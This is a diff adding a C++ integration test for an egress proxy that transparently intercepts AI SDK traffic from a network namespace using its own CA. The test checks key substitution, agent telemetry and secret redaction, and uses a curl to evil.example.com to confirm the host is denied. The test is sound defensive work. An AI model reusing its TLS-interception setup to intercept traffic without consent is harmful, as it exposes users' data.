+        fmt::format("mkdir -p /etc/netns/{} && echo 'nameserver 9.9.9.9' > "
+                    "/etc/netns/{}/resolv.conf",
+                    ns_, ns_),
+    };
+    for (const auto& command : commands) {
+      auto result = testing::runCommand(command);
+      if (result.exit_code != 0) return command + ": " + result.output;
+    }
+    made_ = true;
+    return "";
+  }
+
+  void teardown() {
+    testing::runCommand(fmt::format("ip netns del {} 2>/dev/null", ns_));
+    testing::runCommand(fmt::format("ip link del {} 2>/dev/null", host_if_));
+    testing::runCommand(fmt::format("nft delete table ip {} 2>/dev/null", table_));
+    testing::runCommand(fmt::format("rm -rf /etc/netns/{}", ns_));
+  }
+
+  // Runs `command` inside the namespace.
+  testing::CommandResult run(const std::string& command) const {
+    return testing::runCommand(fmt::format("ip netns exec {} sh -c '{}'", ns_, command));
+  }
+
+  const std::string& hostIp() const { return host_ip_; }
+  const std::string& sandboxIp() const { return sandbox_ip_; }
+
+ private:
+  std::string ns_, host_if_, sandbox_if_, host_ip_, sandbox_ip_, table_;
+  bool made_ = false;
+};
+
+TEST_F(EgressTest, TransparentInterceptionWithRealSdksInANetworkNamespace) {
+  std::string clients = testing::sourcePath("tests/clients");
+  if (!fs::exists(clients + "/node_modules/openai")) GTEST_SKIP() << "npm clients not installed";
+  SandboxNet net;
+  // Listeners on the host side of the veth; the identity map says who the sandbox is.
+  std::string host_ip = net.hostIp();
+  egress::ProxyOptions options;
+  options.extra_upstream_ca_pem = (*upstream_ca_)->certPem();
+  for (const auto& [host, mock] : *mocks_) {
+    uint16_t port = host == "mcp.internal" ? 80 : host == "pass.example.com" ? 9443 : 443;
+    options.upstream_overrides.emplace_back(fmt::format("{}:{}", host, port),
+                                            fmt::format("127.0.0.1:{}", mock->port()));
+  }
+  // Bind on a free port first, then create the rules with that port.
+  options.transparent_listen = "0.0.0.0:0";
+  options.dns_listen = "0.0.0.0:0";
+  auto proxy = egress::Proxy::start(options, governed_, identities_, pipeline_.get());
+  ASSERT_TRUE(proxy.ok()) << proxy.status().toString();
+  std::string error = net.setUp(proxy.value()->transparentPort(), proxy.value()->dnsPort());
+  if (!error.empty()) GTEST_SKIP() << "cannot build the sandbox network: " << error;
+  egress::Identity identity;
+  identity.namespace_name = "default";
+  identity.agent = "openai-bot";
+  identity.agent_kind = "TaskAgent";
+  identity.execution_id = "exec-42";
+  identity.request_id = "req-7";
+  identities_.set(net.sandboxIp(), identity);
+  std::string ca = (*dir_ / "transparent-ca.pem").string();
+  std::ofstream(ca) << proxy.value()->caCertificatePem();
+
+  // The openai SDK with its default base URL, trusting the CA only through NODE_EXTRA_CA_CERTS.
+  auto openai = net.run(
+      fmt::format("cd {} && NODE_EXTRA_CA_CERTS={} OPENAI_API_KEY=sk-agent-own OPENAI_BASE_URL="
+                  "https://api.openai.com/v1 PROMPT=\"one two\" node openai_chat.mjs",
+                  clients, ca));
+  EXPECT_EQ(openai.exit_code, 0) << openai.output;
+  EXPECT_THAT(openai.output, HasSubstr("\"ok\":true"));
+  auto requests = mock("api.openai.com").requests();
+  ASSERT_FALSE(requests.empty());
+  EXPECT_EQ(requests.back().api_key, kOpenAiSecret);
+
+  // The anthropic SDK, streaming.
+  auto anthropic = net.run(
+      fmt::format("cd {} && NODE_EXTRA_CA_CERTS={} ANTHROPIC_API_KEY=mine ANTHROPIC_BASE_URL="
+                  "https://api.anthropic.com STREAM=1 node anthropic_messages.mjs",
+                  clients, ca));
+  EXPECT_EQ(anthropic.exit_code, 0) << anthropic.output;
+  EXPECT_THAT(anthropic.output, HasSubstr("\"ok\":true"));
+
+  // The MCP SDK over plain HTTP.
+  auto mcp =
+      net.run(fmt::format("cd {} && MCP_URL=http://mcp.internal/mcp node mcp_call.mjs", clients));
+  EXPECT_EQ(mcp.exit_code, 0) << mcp.output;
+
+  // curl trusting the CA through CURL_CA_BUNDLE-style flags; a host the policy denies.
+  auto denied = net.run(fmt::format(
+      "curl -sS --max-time 10 --cacert {} -w \" HTTP %{{http_code}}\" https://evil.example.com/",
+      ca));
+  EXPECT_THAT(denied.output, HasSubstr("HTTP 403"));
+  // A raw TCP connection to an IP literal is closed (no listener accepts opaque TCP).
+  auto raw = net.run("curl -sS --max-time 5 http://1.2.3.4:5432/ ; echo rc=$?");
+  EXPECT_THAT(raw.output, Not(HasSubstr("rc=0")));
+
+  auto all = records();
+  bool saw_openai = false;
+  bool saw_mcp = false;
+  for (const auto& record : all) {
+    if (record.name.find("api.openai.com /v1/chat/completions") != std::string::npos) {
+      saw_openai = true;
+      EXPECT_EQ(str(record, telemetry::attr::kClrkExecutionId), "exec-42");
+      EXPECT_EQ(str(record, telemetry::attr::kClrkRequestId), "req-7");
+      EXPECT_EQ(str(record, telemetry::attr::kClrkAgent), "openai-bot");
+      EXPECT_EQ(num(record, telemetry::attr::kGenAiUsageInputTokens),
+                mockprovider::countTokens("You are terse.") + mockprovider::countTokens("one two"));
+    }
+    if (str(record, telemetry::attr::kMcpMethodName) == "tools/call") saw_mcp = true;
+    EXPECT_THAT(telemetry::toJson(record), Not(HasSubstr(kOpenAiSecret)));
+  }
+  EXPECT_TRUE(saw_openai);
+  EXPECT_TRUE(saw_mcp);
+  proxy.value()->stop();
+}
+
+}  // namespace
+}  // namespace clrk
